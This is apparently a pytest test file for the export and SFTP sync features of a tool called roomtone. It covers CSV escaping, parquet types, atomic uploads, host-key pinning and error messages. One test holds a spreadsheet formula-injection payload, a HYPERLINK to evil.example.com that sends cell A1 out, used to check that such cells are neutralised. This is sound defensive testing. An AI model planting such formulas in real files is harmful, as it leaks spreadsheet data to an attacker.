"""Files for other programs: formulas are text, types stay, nothing is half there, and the server is the right one."""

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import paramiko
import pyarrow.parquet as pq
import pytest

from roomtone.errors import RoomtoneError
from roomtone.settings import Settings, load_settings
from roomtone.sync import sync
from roomtone.sync.desired import PROFILE_PROPERTIES, RECOVERY_EVENT
from roomtone.sync.destinations.file_formats import COLUMNS, FORMATS, FORMULA_STARTS

from .conftest import Mart, Person
from .place import sftp_environ
from .sftp_server import SftpServer

SOMEBODY = Person("shop-1001", "ada@example.com", "P1")


@pytest.fixture
def home(tmp_path: Path, sftp: SftpServer) -> dict[str, str]:
    """The environment of a roomtone that writes files and asks no platform."""
    return {"ROOMTONE_HOME": str(tmp_path / "home")} | sftp_environ(sftp)


@pytest.fixture
def settings(home: dict[str, str]) -> Settings:
    return load_settings(home)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_becomes_text_and_comes_back_as_it_was(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example.com?x="&A1,"free")'
    row = dict.fromkeys(COLUMNS[PROFILE_PROPERTIES]) | {"intent_id": "i", "roomtone_reason": hostile}
    content = FORMATS["csv"].write(PROFILE_PROPERTIES, [row])
    cells = next(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert cells["roomtone_reason"] == f"'{hostile}"
    assert FORMATS["csv"].read(PROFILE_PROPERTIES, content)["i"] == row


@pytest.mark.parametrize("text", ["'=1+1", "it's fine", "'", "a=b", 'quote " and, comma\nand line'])
def test_other_text_comes_back_as_it_was(text: str) -> None:
    row = dict.fromkeys(COLUMNS[RECOVERY_EVENT]) | {"intent_id": "i", "trigger_kind": text}
    for form in FORMATS.values():
        assert form.read(RECOVERY_EVENT, form.write(RECOVERY_EVENT, [row]))["i"]["trigger_kind"] == text


def test_no_cell_of_a_written_file_begins_a_formula(mart: Mart) -> None:
    mart.pause(SOMEBODY, datetime.now(UTC) + timedelta(days=14))
    mart.profiles[SOMEBODY.customer_id]["roomtone_reason"] = "=1+1"
    mart.owe(SOMEBODY, "@trigger", datetime.now(UTC))
    sync(mart.settings, mart.commit(datetime.now(UTC)), "csv")
    files = list(mart.settings.sent_dir.rglob("*.csv"))
    assert len(files) == 2
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(), newline="")):
            assert [cell for cell in row if cell.startswith(FORMULA_STARTS)] == []


def test_parquet_keeps_types(mart: Mart) -> None:
    mart.pause(SOMEBODY, datetime.now(UTC) + timedelta(days=14))
    sync(mart.settings, mart.commit(datetime.now(UTC)), "parquet")
    [path] = (mart.settings.sent_dir / PROFILE_PROPERTIES).glob("*.parquet")
    types = {field.name: str(field.type) for field in pq.read_schema(path)}
    assert types["roomtone_pause_sales"] == "bool"
    assert types["roomtone_tier"] == "int64"
    assert types["roomtone_pause_until"] == "timestamp[us, tz=UTC]"
    assert list(types) == list(COLUMNS[PROFILE_PROPERTIES])


def test_a_file_is_put_under_a_draft_name_and_renamed(mart: Mart, sftp: SftpServer) -> None:
    sftp.opened.clear()
    sftp.renames.clear()
    mart.pause(SOMEBODY, datetime.now(UTC) + timedelta(days=14))
    sync(mart.settings, mart.commit(datetime.now(UTC)), "sftp")
    final = "/in/profile_properties/sync-00000001.csv"
    draft = "/in/profile_properties/.sync-00000001.csv.part"
    assert (sftp.opened, sftp.renames) == ([draft], [(draft, final)])
    assert [path.name for path in (sftp.folder / "in" / PROFILE_PROPERTIES).glob(".*")] == []


def told(home: dict[str, str], **environ: str) -> str:
    settings = load_settings(home | environ)
    mart = Mart(settings)
    mart.pause(SOMEBODY, datetime.now(UTC) + timedelta(days=14))
    with pytest.raises(RoomtoneError) as raised:
        sync(settings, mart.commit(datetime.now(UTC)), "sftp")
    assert "\n" not in str(raised.value)
    return str(raised.value)


OTHER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJV7sGXpQfGYwYxG3b1zHbwk1tDq7bJm8J4u2J0nWm0o"


@pytest.mark.parametrize(
    ("environ", "line"),
    [
        ({"ROOMTONE_SFTP_TOKEN": "wrong"}, "does not let this user in; check ROOMTONE_SFTP_TOKEN or"),
        ({"ROOMTONE_SFTP_HOST_KEY": ""}, "ROOMTONE_SFTP_HOST_KEY: is not set; give `ssh-ed25519 AAAA...`"),
        ({"ROOMTONE_SFTP_HOST_KEY": "what"}, "ROOMTONE_SFTP_HOST_KEY: is no host key; give"),
        ({"ROOMTONE_SFTP_HOST_KEY": OTHER_KEY}, "broke off"),
        ({"ROOMTONE_SFTP_URL": "sftp://roomtone@127.0.0.1:9/in"}, "broke off"),
        ({"ROOMTONE_SFTP_URL": "https://x"}, "ROOMTONE_SFTP_URL: https://x; give sftp://USER@HOST:PORT/FOLDER"),
        ({"ROOMTONE_SFTP_FORMAT": "xlsx"}, "ROOMTONE_SFTP_FORMAT: 'xlsx' is unknown; use one of jsonl, csv, parquet"),
        ({"ROOMTONE_SFTP_KEY_FILE": "/no/such/key"}, "ROOMTONE_SFTP_KEY_FILE: /no/such/key cannot be used"),
    ],
)
def test_what_does_not_fit_is_one_line(*, home: dict[str, str], environ: dict[str, str], line: str) -> None:
    assert line in told(home, **environ)


def test_another_key_of_the_pinned_kind_is_refused_before_the_password(home: dict[str, str]) -> None:
    other = paramiko.ECDSAKey.generate()
    pinned = f"{other.get_name()} {other.get_base64()}"
    line = told(home, ROOMTONE_SFTP_HOST_KEY=pinned)
    assert "shows another host key than the pinned one; ask who runs it" in line


def test_a_folder_that_may_not_be_written_is_one_line(home: dict[str, str], sftp: SftpServer) -> None:
    sftp.is_read_only = True
    try:
        assert "may not be written at /in; give the user the folder" in told(home)
    finally:
        sftp.is_read_only = False


def test_a_key_file_signs_in_where_the_server_knows_it(
    *, tmp_path: Path, home: dict[str, str], sftp: SftpServer
) -> None:
    key = paramiko.ECDSAKey.generate()
    path = tmp_path / "id_ecdsa"
    key.write_private_key_file(str(path))
    environ = {"ROOMTONE_SFTP_KEY_FILE": str(path), "ROOMTONE_SFTP_TOKEN": ""}
    line = told(home, **environ)
    assert "does not let this user in; check ROOMTONE_SFTP_TOKEN or ROOMTONE_SFTP_KEY_FILE" in line
    sftp.authorized.append(key)
    mart = Mart(load_settings(home | environ))
    mart.pause(SOMEBODY, datetime.now(UTC) + timedelta(days=14))
    assert sync(mart.settings, mart.commit(datetime.now(UTC)), "sftp").total.done == 1
